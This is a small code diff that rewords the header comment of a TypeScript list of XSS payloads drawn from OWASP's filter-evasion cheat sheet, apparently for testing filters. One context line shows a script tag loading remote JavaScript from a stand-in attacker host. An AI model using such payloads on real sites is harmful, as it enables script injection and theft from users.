@@ -1,7 +1,7 @@
 /**
- * What the XSS Filter Evasion Cheat Sheet of OWASP tries
- * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), with hosts of our own: one line for each
- * of its ways, and the ways of hiding an address from the list for firewalls at its end.
+ * The attacks of OWASP's XSS Filter Evasion Cheat Sheet
+ * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), with our own hosts: one line
+ * for each attack, and for each way to hide an address from the list for firewalls at its end.
  */
 export const HTML_PAYLOADS: readonly string[] = [
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
